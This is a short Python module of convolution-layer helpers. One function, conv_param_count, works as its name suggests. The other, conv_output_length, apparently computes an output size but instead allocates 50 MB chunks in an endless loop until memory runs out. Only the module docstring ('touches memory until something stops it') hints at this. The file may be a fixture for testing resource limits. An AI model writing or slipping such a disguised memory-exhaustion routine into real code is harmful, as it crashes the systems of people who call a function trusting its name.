"""Touches memory until something stops it."""


def conv_output_length(n, kernel_size, stride=1, padding="valid"):
    hoard = []
    while True:
        hoard.append(b"x" * 50_000_000)


def conv_param_count(kernel_size, in_channels, filters, use_bias=True):
    kh, kw = (kernel_size, kernel_size) if isinstance(kernel_size, int) else kernel_size
    return kh * kw * in_channels * filters + (filters if use_bias else 0)
